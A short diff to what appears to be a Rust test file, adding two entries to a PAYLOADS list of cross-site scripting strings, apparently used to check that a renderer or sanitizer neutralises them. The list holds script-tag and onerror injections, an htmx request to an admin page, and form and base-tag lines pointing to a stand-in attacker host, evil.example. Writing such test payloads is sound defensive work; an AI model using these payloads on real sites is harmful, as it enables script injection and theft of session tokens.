@@ -37,6 +37,8 @@ const PAYLOADS: &[&str] = &[
     "pages: \"><script>alert(1)</script>",
     "incidents: category=\"><script>",
     "map: \"><script>",
+    "image: 1 wide = \"><script>alert(1)</script>",
+    "image: 1\" onerror=\"alert(1)",
     "<div hx-get=/en/admin hx-trigger=load>x</div>",
     "<form action=https://evil.example><input name=_token>",
     "<base href=https://evil.example/>",
